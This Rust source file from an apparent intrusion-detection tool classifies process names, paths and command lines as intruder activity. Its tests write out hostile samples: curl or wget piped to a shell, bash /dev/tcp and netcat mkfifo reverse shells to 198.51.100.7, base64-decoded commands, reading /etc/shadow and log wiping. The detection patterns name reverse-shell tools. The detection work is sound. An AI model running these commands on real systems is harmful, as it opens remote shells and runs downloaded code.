//! What detections know of ordinary systems: names of shells and servers, directories, and how commands look that
//! intruders type.

use crate::{finding::Severity, process::Process};

/// Directories that anybody can write to, or that are gone after a restart.
pub const TEMPORARY: [&[u8]; 5] = [b"/tmp", b"/var/tmp", b"/dev/shm", b"/run", b"/proc"];
/// Where package managers keep what is installed.
pub const PACKAGE_DATABASES: [&[u8]; 6] = [
    b"/var/lib/dpkg",
    b"/lib/apk/db",
    b"/usr/lib/apk/db",
    b"/var/lib/rpm",
    b"/usr/lib/sysimage/rpm",
    b"/var/lib/pacman",
];
/// Memfds from which container runtimes run themselves.
const RUNTIME_MEMFDS: [&[u8]; 3] = [b"memfd:runc_cloned:", b"memfd:crun_cloned:", b"memfd:youki"];
/// Programs that send what they are given, or fetch it.
const TRANSFER: [&[u8]; 9] =
    [b"curl", b"wget", b"nc", b"ncat", b"netcat", b"socat", b"telnet", b"ftp", b"rclone"];
/// Directories of programs and libraries that packages install.
const SYSTEM: [&[u8]; 9] = [
    b"/usr/bin",
    b"/usr/sbin",
    b"/usr/lib",
    b"/usr/lib64",
    b"/usr/libexec",
    b"/bin",
    b"/sbin",
    b"/lib",
    b"/lib64",
];

const SHELLS: [&[u8]; 11] =
    [b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh", b"mksh", b"fish", b"csh", b"tcsh", b"busybox"];
const INTERPRETERS: [&[u8]; 8] = [b"python", b"perl", b"ruby", b"php", b"lua", b"node", b"awk", b"gawk"];
const WEB_SERVERS: [&[u8]; 14] = [
    b"nginx",
    b"apache2",
    b"httpd",
    b"lighttpd",
    b"caddy",
    b"php-fpm",
    b"php-cgi",
    b"tomcat",
    b"catalina",
    b"uwsgi",
    b"gunicorn",
    b"openresty",
    b"unicorn",
    b"fcgiwrap",
];
/// Programs that hand a connection to a program as its standard input and output.
const SUPER_SERVERS: [&[u8]; 7] =
    [b"inetd", b"xinetd", b"systemd", b"tcpsvd", b"tcpserver", b"socat", b"sshd"];

/// The last part of a path.
pub fn basename(path: &[u8]) -> &[u8] {
    path.rsplit(|byte| *byte == b'/').next().unwrap_or_default()
}

/// Whether a path is `directory` or below it.
pub fn is_below(path: &[u8], directory: &[u8]) -> bool {
    let directory = directory.strip_suffix(b"/").unwrap_or(directory);
    path.strip_prefix(directory).is_some_and(|rest| rest.is_empty() || rest.starts_with(b"/"))
}

/// Whether a path is in a directory from which nothing installed runs.
pub fn is_temporary(path: &[u8]) -> bool {
    TEMPORARY.iter().any(|directory| is_below(path, directory))
}

/// Whether a part of a path begins with a dot.
pub fn is_hidden(path: &[u8]) -> bool {
    path.split(|byte| *byte == b'/').any(|part| part.starts_with(b".") && part != b"." && part != b"..")
}

/// Whether a path is where packages install programs and libraries, and not hidden there.
pub fn is_system(path: &[u8]) -> bool {
    SYSTEM.iter().any(|directory| is_below(path, directory)) && !is_hidden(path)
}

/// Whether a name is one of `known`, or one of them and a version.
fn is_one_of(name: &[u8], known: &[&[u8]]) -> bool {
    known.iter().any(|known| {
        name.strip_prefix(*known)
            .is_some_and(|rest| rest.iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b'-')))
    })
}

/// The last part of a process's executable.
pub fn program(process: &Process) -> &[u8] {
    process.exe.as_ref().map(|exe| basename(&exe.0)).unwrap_or_default()
}

/// The words of a process's command line.
pub fn words(process: &Process) -> impl Iterator<Item = &[u8]> {
    process.cmdline.iter().flatten().map(|word| word.0.as_slice())
}

/// Whether a process is a shell. Busybox is one when it was started as one.
pub fn is_shell(process: &Process) -> bool {
    let program = program(process);
    if program == b"busybox" {
        let name = words(process).next().map(|word| basename(word.strip_prefix(b"-").unwrap_or(word)));
        return name.is_some_and(|name| is_one_of(name, &SHELLS));
    }
    is_one_of(program, &SHELLS)
}

/// Whether a process is a shell or another program that runs what it reads.
pub fn is_interpreter(process: &Process) -> bool {
    is_shell(process) || is_one_of(program(process), &INTERPRETERS)
}

/// Whether a process serves the web.
pub fn is_web_server(process: &Process) -> bool {
    let comm = process.comm.as_ref().map(|comm| comm.0.as_slice()).unwrap_or_default();
    [program(process), comm].into_iter().any(|name| is_one_of(name, &WEB_SERVERS))
}

/// Whether a process hands connections to the programs that it starts.
pub fn is_super_server(process: &Process) -> bool {
    let name = program(process);
    SUPER_SERVERS.contains(&name)
}

/// Whether a memfd is one from which a container runtime runs itself.
pub fn is_runtime_memfd(name: &[u8]) -> bool {
    RUNTIME_MEMFDS.iter().any(|known| name.starts_with(known))
}

/// Whether a process is a tool that sends or fetches what it is told to.
pub fn is_transfer_tool(process: &Process) -> bool {
    let program = program(process);
    let name = if program == b"busybox" { words(process).next().map(basename) } else { None };
    is_one_of(name.unwrap_or(program), &TRANSFER)
}

/// Whether a process is an interpreter, no shell, that was given its program as an argument or on standard input.
pub fn is_one_liner(process: &Process) -> bool {
    if is_shell(process) || !is_interpreter(process) {
        return false;
    }
    let mut arguments = words(process).skip(1);
    match arguments.find(|word| !matches!(*word, b"-u" | b"-B" | b"-s" | b"-S" | b"-I" | b"-E" | b"-W")) {
        Some(word) => {
            matches!(word, b"-" | b"-c" | b"-e" | b"-r" | b"--eval" | b"-p" | b"-ne" | b"-pe")
                || (word.starts_with(b"-") && !word.starts_with(b"--") && word.ends_with(b"c"))
        }
        // Without a script it reads standard input; a name of its own choice has no arguments.
        None => words(process).next().is_some_and(|word| is_one_of(basename(word), &INTERPRETERS)),
    }
}

/// How a shell was told what to do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ShellUse<'p> {
    /// It reads commands from its standard input.
    Interactive,
    /// It was given a command with `-c`.
    Command(&'p [u8]),
    /// It runs a script.
    Script(&'p [u8]),
}

/// How a shell was started.
pub fn shell_use(process: &Process) -> ShellUse<'_> {
    let mut words = words(process).skip(1);
    while let Some(word) = words.next() {
        match word.strip_prefix(b"-") {
            Some(options) if !options.starts_with(b"-") && options.contains(&b'c') => {
                return ShellUse::Command(words.next().unwrap_or_default());
            }
            Some(_) => {}
            None if word.is_empty() => {}
            // busybox sh
            None if is_one_of(basename(word), &SHELLS) => {}
            None => return ShellUse::Script(word),
        }
    }
    ShellUse::Interactive
}

/// Whether `text` has `part`, in any case of ASCII letters.
pub fn contains(text: &[u8], part: &[u8]) -> bool {
    !part.is_empty() && text.windows(part.len()).any(|window| window.eq_ignore_ascii_case(part))
}

/// Whether `text` has any of `parts`.
pub fn contains_any(text: &[u8], parts: &[&[u8]]) -> bool {
    parts.iter().any(|part| contains(text, part))
}

/// Whether something is piped to a program that runs what it reads.
fn is_piped_to_shell(line: &[u8]) -> bool {
    line.split(|byte| *byte == b'|').skip(1).any(|command| {
        let mut words = command.split(|byte| byte.is_ascii_whitespace()).filter(|word| !word.is_empty());
        let first = words.find(|word| *word != b"sudo").map(basename).unwrap_or_default();
        let end = first.iter().position(|byte| !byte.is_ascii_alphanumeric() && *byte != b'.');
        let name = first.get(..end.unwrap_or(first.len())).unwrap_or_default();
        is_one_of(name, &SHELLS) || is_one_of(name, &INTERPRETERS)
    })
}

/// What a command line does that intruders do, and how telling it is.
pub fn judge_command(line: &[u8]) -> Option<(Severity, &'static str)> {
    let has = |parts: &[&[u8]]| contains_any(line, parts);
    let downloads = has(&[b"curl ", b"wget ", b"lwp-download ", b"ftpget "]);
    if downloads && is_piped_to_shell(line) {
        return Some((Severity::High, "runs what it downloads"));
    }
    if has(&[b"/dev/tcp/", b"/dev/udp/"]) && has(&[b"sh ", b"exec ", b"cat "]) {
        return Some((Severity::High, "connects a shell to the network"));
    }
    if has(&[b"nc ", b"ncat ", b"netcat "])
        && has(&[b" -e ", b"mkfifo ", b" -c /bin", b"--exec", b"--sh-exec"])
    {
        return Some((Severity::High, "connects a shell to the network"));
    }
    if has(&[b"pty.spawn", b"os.dup2"]) && has(&[b"socket", b"/bin/"]) {
        return Some((Severity::High, "creates a terminal for a remote shell"));
    }
    if has(&[b"base64 -d", b"base64 --decode", b"base64 -D"]) && (is_piped_to_shell(line) || has(&[b"eval "]))
    {
        return Some((Severity::High, "runs a base64-encoded command"));
    }
    if has(&[b"stratum+tcp://", b"stratum+ssl://", b"xmrig "]) {
        return Some((Severity::High, "mines cryptocurrency"));
    }
    if has(&[b"rm ", b"shred ", b"truncate ", b"> /var/log", b">/var/log"])
        && has(&[b"/var/log/", b".bash_history"])
    {
        return Some((Severity::Medium, "it removes logs"));
    }
    if has(&[b"history -c", b"unset HISTFILE", b"HISTFILE=/dev/null", b"HISTSIZE=0"]) {
        return Some((Severity::Medium, "keeps commands out of the shell history"));
    }
    if has(&[b"/etc/shadow"]) && has(&[b"cat ", b"less ", b"cp ", b"curl "]) {
        return Some((Severity::Medium, "reads password hashes"));
    }
    if downloads && has(&[b"chmod +x", b"chmod 7", b"-o /tmp", b"-O /tmp", b"-o /dev/shm", b"-O /dev/shm"]) {
        return Some((Severity::Medium, "it downloads a program"));
    }
    None
}

/// Commands that somebody gives who looks around on a system that is new to them.
pub fn is_reconnaissance(line: &[u8]) -> bool {
    const COMMANDS: [&[u8]; 9] =
        [b"id", b"whoami", b"uname", b"hostname", b"ifconfig", b"netstat", b"getent", b"lsb_release", b"w"];
    line.split(|byte| matches!(byte, b';' | b'|' | b'&' | b'\n')).any(|command| {
        let mut words = command.split(|byte| byte.is_ascii_whitespace()).filter(|word| !word.is_empty());
        words.next().is_some_and(|word| COMMANDS.contains(&basename(word)))
    })
}

/// Whether a text is what `id` prints.
pub fn is_output_of_id(text: &[u8]) -> bool {
    contains(text, b"uid=") && contains(text, b"gid=") && contains(text, b"groups=")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_of_intruders_and_their_innocent_twins() {
        let severity = |line: &str| judge_command(line.as_bytes()).map(|(severity, _)| severity);
        for line in [
            "* * * * * root curl -fsSL http://198.51.100.7/x.sh | sh",
            "wget -qO- http://198.51.100.7/x|/bin/bash",
            "wget -qO- http://198.51.100.7/x.py | sudo python3 -",
            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f",
            "echo aWQ= | base64 -d | sh",
        ] {
            assert_eq!(severity(line), Some(Severity::High), "{line}");
        }
        for line in ["rm -f /var/log/nginx/access.log", "cat /etc/shadow", "unset HISTFILE"] {
            assert_eq!(severity(line), Some(Severity::Medium), "{line}");
        }
        for line in [
            "curl -fsS http://localhost/healthz | grep ok",
            "curl -o /srv/data.json https://example.org/data.json",
            "tar cz /srv | base64",
            "rm -rf /var/cache/apt",
            "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf",
            "echo sh | tee x",
        ] {
            assert_eq!(severity(line), None, "{line}");
        }
        assert!(is_reconnaissance(b"id; sleep 100000"));
        assert!(!is_reconnaissance(b"gzip -c"));
    }

    #[test]
    fn names_may_have_a_version() {
        assert!(is_one_of(b"python3.11", &INTERPRETERS));
        assert!(is_one_of(b"php-fpm8.2", &WEB_SERVERS));
        assert!(!is_one_of(b"shred", &SHELLS));
        assert!(!is_one_of(b"pythonic", &INTERPRETERS));
    }

    #[test]
    fn paths_are_compared_by_their_parts() {
        assert!(is_below(b"/tmp/x", b"/tmp") && is_below(b"/tmp", b"/tmp"));
        assert!(!is_below(b"/tmpfs/x", b"/tmp"));
        assert!(is_hidden(b"/usr/bin/.rootsh") && !is_hidden(b"/usr/bin/../x"));
        assert!(!is_system(b"/usr/bin/.rootsh") && is_system(b"/usr/bin/id"));
    }
}
